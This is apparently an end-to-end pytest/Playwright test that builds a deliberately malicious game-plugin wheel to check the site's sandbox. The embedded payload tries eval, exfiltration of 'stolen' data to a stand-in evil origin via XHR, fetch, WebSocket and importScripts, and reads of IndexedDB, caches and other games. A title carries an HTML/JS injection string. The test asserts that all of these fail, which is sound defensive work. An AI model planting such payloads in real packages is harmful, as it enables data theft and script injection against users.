"""A malicious third-party game cannot touch the site (docs/plugins-security.md). The wheel is the
example game (examples/german_whist) with a payload in its `__init__` that, in the page, tries what a
plugin sharing the site's engine could do: run JavaScript from a string, send what it finds to another
origin (served here, counting every request it gets), read the site's IndexedDB (which holds the
saves), see another game in progress (an Arsène game open in the same page) and write into the service
worker's cache (its own app.js). Its game's view carries what each attempt came to, so the test reads
it from the save the page stores. Every attempt fails, and the game still plays: a move, and its bot's
reply. Its title, with a quote and markup in it, stays text in the Share dialog's embed snippet.

The payload acts only where it runs in a browser's worker: the build runs the wheel in its own sandbox
(tools/plugin_sandbox.mjs, tests/test_broken_wheels.py) to list it and pass the contract suite, and
the build's side is not what this test is about."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from conftest import ARTIFACTS, _build_module
from driver import PHONE_IN_BROWSER, TIMEOUT_MS, open_site, start_game, take_human_turn, wait_until
from playwright.sync_api import BrowserContext, Page, expect
from test_plugin import example_project, saved, start_from_picker, take_generic_turn, turn_or_summary

GAME = "german_whist"
EVIL_TITLE = {"en": 'Whist" onload="alert(1)" x="<b>', "ja": 'ホイスト" onload="alert(1)'}
# What the payload tries, each recorded in ATTACKS as "done: …" or "refused: …" (a promise's outcome
# once it settles), and every Game object the interpreter holds, found the way an attacker would.
PAYLOAD = '''

# --- a malicious payload (e2e/test_plugin_isolation.py) -----------------------------------------
ATTACKS: dict[str, str] = {}


def _tried(name, action):
    try:
        done = action()
        ATTACKS[name] = "pending" if done == "pending" else f"done: {done}"
    except BaseException as error:
        ATTACKS[name] = f"refused: {type(error).__name__}: {str(error)[:160]}"


def _settled(name, promise):
    promise.then(lambda value: ATTACKS.__setitem__(name, f"done: {value}"),
                 lambda error: ATTACKS.__setitem__(name, f"refused: {error}"))
    return "pending"


def _post():
    request = js.XMLHttpRequest.new()
    request.open("POST", EVIL + "xhr", False)
    request.send("stolen")
    return request.status


def _websocket():
    socket = js.WebSocket.new(EVIL.replace("http", "ws"))
    socket.onopen = lambda event: ATTACKS.__setitem__("websocket", "done: open")
    socket.onerror = lambda event: ATTACKS.__setitem__("websocket", "refused: no connection")
    return "pending"


def _fetch():
    # the worker's own fetch, not whatever stands in its place
    options = js.JSON.parse('{"method": "POST", "body": "stolen", "mode": "no-cors"}')
    return _settled("fetch", js.WorkerGlobalScope.prototype.fetch.call(js.self, EVIL + "fetch", options))


def _games_seen():
    import gc
    from pygames_core.engine.game import Game
    return ",".join(sorted({thing.game_id for thing in gc.get_objects() if isinstance(thing, Game)}))


try:
    js = __import__("js")  # Pyodide's module of the JavaScript globals (hidden from the build's import check)
    IN_A_BROWSER = hasattr(js, "WorkerGlobalScope")
except ImportError:
    IN_A_BROWSER = False
if IN_A_BROWSER:
    _tried("eval", lambda: js.eval("6 * 7"))
    _tried("function", lambda: js.Function.new("return 6 * 7")())
    _tried("run_js", lambda: __import__("pyodide.code").code.run_js("6 * 7"))
    _tried("post", _post)
    _tried("fetch", _fetch)
    _tried("websocket", _websocket)
    _tried("import", lambda: js.WorkerGlobalScope.prototype.importScripts.call(js.self, EVIL + "script.js"))
    _tried("indexeddb", lambda: js.indexedDB.open("pygames"))
    _tried("caches", lambda: _settled("caches", js.caches.open("pygames-evil")))
    _tried("service worker", lambda: _settled("service worker", js.navigator.serviceWorker.register("app.js")))
    _shown = RULES.view

    def _view_with_attacks(state, seat):
        return {**_shown(state, seat), "attacks": {**ATTACKS, "games": _games_seen()}}

    RULES.view = _view_with_attacks
'''


class EvilOrigin(ThreadingHTTPServer):
    """Another origin that counts every request it gets, and would let any page read its answers."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        super().__init__(("127.0.0.1", 0), EvilHandler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}/"


class EvilHandler(BaseHTTPRequestHandler):
    server: EvilOrigin

    def answer(self) -> None:
        self.server.hits.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Access-Control-Allow-Methods", "*")
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = do_OPTIONS = answer

    def log_message(self, format: str, *args: object) -> None:
        pass


def malicious_wheel(out: Path, evil: str) -> Path:
    project = out / "project"
    shutil.copytree(example_project(), project, ignore=shutil.ignore_patterns("build", "*.egg-info", "tests"))
    rules = project / GAME / "rules.py"
    title = '{"en": "German Whist", "ja": "ジャーマン・ホイスト"}'
    assert title in rules.read_text(encoding="utf-8")
    rules.write_text(rules.read_text(encoding="utf-8").replace(title, json.dumps(EVIL_TITLE, ensure_ascii=False)),
                     encoding="utf-8")
    entry = project / GAME / "__init__.py"
    entry.write_text(entry.read_text(encoding="utf-8") + f"\nEVIL = {evil!r}\n" + PAYLOAD, encoding="utf-8")
    subprocess.run([sys.executable, "-m", "pip", "wheel", "--no-deps", "--no-build-isolation", "-q", "-w", str(out),
                    str(project)], check=True)
    (wheel,) = out.glob("*.whl")
    return wheel


@pytest.fixture(scope="module")
def evil() -> Iterator[EvilOrigin]:
    server = EvilOrigin()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def evil_site(tmp_path_factory: pytest.TempPathFactory, evil: EvilOrigin) -> Iterator[str]:
    build = _build_module()
    wheel = malicious_wheel(tmp_path_factory.mktemp("evil-wheel"), evil.url)
    site = tmp_path_factory.mktemp("evil-site")
    build.build(site, [wheel])
    server = build.make_server(site, 0, quiet=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()
    server.server_close()


def attacks(page: Page) -> dict[str, str]:
    """What the payload's attempts came to, as its game's view (stored with the save) says, once none is
    pending any more."""
    wait_until(page, """async () => {
        const attacks = (await window.pygamesSaved())?.snap?.view?.attacks;
        return attacks && !Object.values(attacks).includes('pending');
    }""")
    return dict(saved(page)["snap"]["view"]["attacks"])


def test_a_malicious_game_reaches_nothing_of_the_site_and_still_plays(persistent_context: BrowserContext,
                                                                      evil_site: str, evil: EvilOrigin) -> None:
    context = persistent_context
    page = context.pages[0] if context.pages else context.new_page()
    page.set_viewport_size(PHONE_IN_BROWSER)
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    open_site(page, evil_site)
    page.wait_for_function("() => navigator.serviceWorker.controller !== null", timeout=TIMEOUT_MS)
    # the site's secrets: an Arsène game played (its save in IndexedDB), then one more left open in the
    # site's engine, a game in progress that the plugin's engine must not see
    start_game(page, game="arsene", seed=5)
    take_human_turn(page)
    arsene_save = saved(page)
    assert arsene_save["game"] == "arsene"
    opened = page.evaluate("() => window.pygamesBridge({op: 'new', game: 'arsene', seat: 0, seed: '11'})")
    assert opened["ok"]
    app_js = page.evaluate("() => caches.match('app.js').then((response) => response.text())")

    page.click("#new-game")
    start_from_picker(page, GAME, 3)
    expect(page.locator("#game > .gn-table")).to_be_visible()
    assert turn_or_summary(page) == "turn"
    before = saved(page)["snap"]["moves"]
    take_generic_turn(page)  # a move, and the bot's reply: the game plays
    assert turn_or_summary(page) == "turn"
    assert saved(page)["snap"]["moves"] >= before + 2
    page.screenshot(path=str(ARTIFACTS / "plugin-isolation-phone-en.png"))

    tried = attacks(page)
    refused = {name: outcome for name, outcome in tried.items() if name != "games"}
    assert set(refused) == {"eval", "function", "run_js", "post", "fetch", "websocket", "import", "indexeddb", "caches",
                            "service worker"}, tried
    assert all(outcome.startswith("refused") for outcome in refused.values()), json.dumps(tried, indent=1)
    assert all("EvalError" in tried[name] for name in ("eval", "function", "run_js")), tried
    assert tried["games"] == GAME, tried  # its own game only: not the Arsène games of the site's engine
    assert evil.hits == []
    # the site's engine still holds its Arsène game, the home its save, the service worker its own files
    assert page.evaluate("(sid) => window.pygamesBridge({op: 'snapshot', sid})", opened["sid"])["ok"]
    stored = page.evaluate("""() => new Promise((resolve, reject) => {
        const request = indexedDB.open('pygames');
        request.onsuccess = () => {
          const names = [...request.result.objectStoreNames];
          request.result.close();
          resolve(names);
        };
        request.onerror = () => reject(request.error);
    })""")
    assert stored, "the home's database is there"
    assert page.evaluate("() => caches.match('app.js').then((response) => response.text())") == app_js
    assert page.evaluate("() => caches.keys()") == [name for name in page.evaluate("() => caches.keys()")
                                                    if name.startswith("pygames-")]
    assert errors == []


def test_a_plugins_title_stays_text_in_the_embed_snippet(persistent_context: BrowserContext, evil_site: str) -> None:
    context = persistent_context
    page = context.pages[0] if context.pages else context.new_page()
    open_site(page, evil_site)
    start_from_picker(page, GAME, 4)
    expect(page.locator("#game > .gn-table")).to_be_visible()
    page.click("#share")
    snippet = page.input_value("#share-embed")
    frame = page.evaluate("""(html) => {
        const parsed = new DOMParser().parseFromString(html, 'text/html');
        const frames = parsed.querySelectorAll('iframe');
        return {count: parsed.body.children.length, frames: frames.length,
                attributes: [...frames[0].attributes].map((a) => a.name), title: frames[0].title};
    }""", snippet)
    assert frame == {"count": 1, "frames": 1, "attributes": ["src", "title", "style", "loading"],
                     "title": EVIL_TITLE["en"]}, snippet
    page.screenshot(path=str(ARTIFACTS / "plugin-isolation-share-phone-en.png"))
